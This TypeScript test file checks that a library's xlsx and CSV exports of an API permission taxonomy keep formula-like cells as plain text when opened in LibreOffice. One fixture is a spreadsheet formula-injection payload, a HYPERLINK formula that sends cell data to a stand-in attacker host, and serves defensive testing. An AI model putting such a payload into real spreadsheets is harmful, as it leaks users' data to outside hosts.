import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { unzipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { catalogueSchema } from '@postern/contract/catalogue';
import { askForService } from '../testing/ask-for-service.ts';
import { listTaxonomy } from './list-taxonomy.ts';
import { presentTaxonomyFile } from './present-taxonomy-file.ts';

const run = promisify(execFile);
const nasty = '=HYPERLINK("https://evil.example?"&A1,"click")';
const catalogue = catalogueSchema.parse({
  apiId: 'v5',
  title: 'API',
  groups: [
    {
      id: 'data',
      name: 'Data & <exchange>',
      modules: [
        {
          id: 'profiles',
          name: 'Profilés “x”',
          definability: 'definable',
          levels: ['none', 'read', 'write'],
        },
      ],
    },
  ],
  operations: [
    ['listProfiles', 'GET', '/profiles', nasty],
    ['addProfile', 'POST', '/profiles', '+1+1'],
    ['dropProfile', 'DELETE', '/profiles/{id}', 'Li\u0007ne\nbreak, comma; "quote"'],
  ].map(([id, method, pathTemplate, name]) => ({
    id,
    method,
    pathTemplate,
    name,
    section: 'Profiles',
    deprecated: false,
    internal: false,
    documentationUrl: 'https://docs.example.com/profiles',
    requirements: [
      {
        moduleId: 'profiles',
        scope: method === 'GET' ? 'read' : 'write',
      },
    ],
  })),
});
const rows = listTaxonomy(catalogue, { basePath: '/v5' });

let folder: string;
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'postern-workbook-'));
});
afterEach(() => rm(folder, { recursive: true, force: true }));

const soffice = await askForService('soffice');
const why = soffice.kind === 'available' ? '' : ` (${soffice.reason})`;

/** Converts a file with LibreOffice: its cells as text, formulas as their results, tab-separated and quoted. */
async function convert(name: string, body: Uint8Array): Promise<string> {
  await writeFile(join(folder, name), body);
  // The profile is separate, since another LibreOffice may be running. The filter means: tab, double quote, UTF-8.
  const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`;
  const program = soffice.kind === 'available' ? soffice.location : '';
  const filter = 'csv:Text - txt - csv (StarCalc):9,34,76';
  await run(program, [
    profile,
    '--headless',
    '--convert-to',
    filter,
    '--outdir',
    join(folder, 'out'),
    join(folder, name),
  ]);
  return await readFile(join(folder, 'out', name.replace(/\.\w+$/, '.csv')), 'utf8');
}

describe('the taxonomy as a workbook', () => {
  it('freezes the heading row and has filters over every column', async () => {
    const { body } = await presentTaxonomyFile(rows, 'xlsx', 'TEST v5');
    const sheet = new TextDecoder().decode(unzipSync(body)['xl/worksheets/sheet1.xml']);
    expect(sheet).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
    expect(sheet).toContain('<autoFilter ref="A1:I4"/>');
    expect(sheet.indexOf('<autoFilter')).toBeGreaterThan(sheet.indexOf('</sheetData>'));
    expect(sheet).not.toContain('<f>');
  });
});

describe.skipIf(soffice.kind === 'missing')(`LibreOffice${why}`, () => {
  it(
    'opens the workbook cleanly: every cell, and what looks like a formula as text',
    { timeout: 120_000 },
    async () => {
      const { body } = await presentTaxonomyFile(rows, 'xlsx', 'TEST v5');
      const cells = (await convert('rights.xlsx', body))
        .trimEnd()
        .split('\n')
        .map((line) => line.split('\t'));
      expect(cells).toEqual([
        [
          'Group',
          'Module',
          'Right definable',
          'Documentation section',
          'Method',
          'Path',
          'Operation',
          'Documentation URL',
          'Scope',
        ],
        ...[
          ['GET', '/v5/profiles', `"${nasty.replaceAll('"', '""')}"`, 'read'],
          ['POST', '/v5/profiles', '+1+1', 'write'],
          ['DELETE', '/v5/profiles/{id}', '"Li ne break, comma; ""quote"""', 'write'],
        ].map(([method, path, name, scope]) => [
          'Data & <exchange>',
          'Profilés “x”',
          'yes',
          'Profiles',
          method,
          path,
          name,
          'https://docs.example.com/profiles',
          scope,
        ]),
      ]);
    },
  );

  it('takes no cell of the CSV for a formula either', { timeout: 120_000 }, async () => {
    const { body } = await presentTaxonomyFile(rows, 'csv', 'TEST v5');
    const text = await convert('rights.csv', body);
    expect(text).toContain(`'=HYPERLINK`);
    expect(text).toContain(`'+1+1`);
  });
});
